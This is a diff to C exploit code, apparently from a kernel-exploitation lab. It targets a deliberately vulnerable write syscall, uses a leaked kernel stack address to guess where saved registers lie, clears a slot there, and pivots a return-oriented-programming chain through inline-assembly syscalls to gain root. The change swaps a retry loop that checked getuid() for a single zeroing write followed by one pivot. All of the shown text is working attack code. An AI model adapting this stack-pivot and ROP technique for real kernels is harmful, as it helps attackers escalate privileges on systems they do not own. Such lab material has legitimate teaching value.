@@ -11,11 +11,10 @@
 #include <stdbool.h>
 #include <stdint.h>
 #include <string.h>
-#include <unistd.h>
 
 #include "attack.h"
 
-enum { CHAIN_WORDS = 10, WORD_R11 = 6, OPCODE_RET = 0xc3, MOST_TRIES = 100 };
+enum { CHAIN_WORDS = 10, WORD_R11 = 6, OPCODE_RET = 0xc3 };
 
 struct chain {
 	uint64_t words[CHAIN_WORDS];
@@ -111,6 +110,21 @@ static __attribute__((noinline)) void pivot_with(const uint64_t *chain, uint64_t
 			 : "rcx", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "memory");
 }
 
+/*
+ * What other calls left there must not be run in place of the chain: it may lead anywhere in the
+ * kernel, and back. Where the registers do lie there, this clears the first of this very call, r15.
+ */
+static __attribute__((noinline)) void clear(uint64_t address)
+{
+	long status = BW_NR_vuln_write;
+
+	__asm__ volatile("syscall"
+			 : "+a"(status)
+			 : "D"(address), "S"(0L)
+			 : "rcx", "r11", "r15", "memory");
+	attack_check("vuln_write", status);
+}
+
 int main(void)
 {
 	struct chain chain;
@@ -123,10 +137,7 @@ int main(void)
 	attack_say("the kernel stack ends at 0x%lx; without a random offset the registers are at "
 		   "0x%lx",
 		   leak.stack_top, guess);
-	/* what lies there now and then leads back to where it came from, and then there is another
-	 * try */
-	for (int i = 0; i < MOST_TRIES && getuid() != 0; i++) {
-		pivot_with(chain.words, guess);
-	}
+	clear(guess);
+	pivot_with(chain.words, guess);
 	return attack_finish();
 }
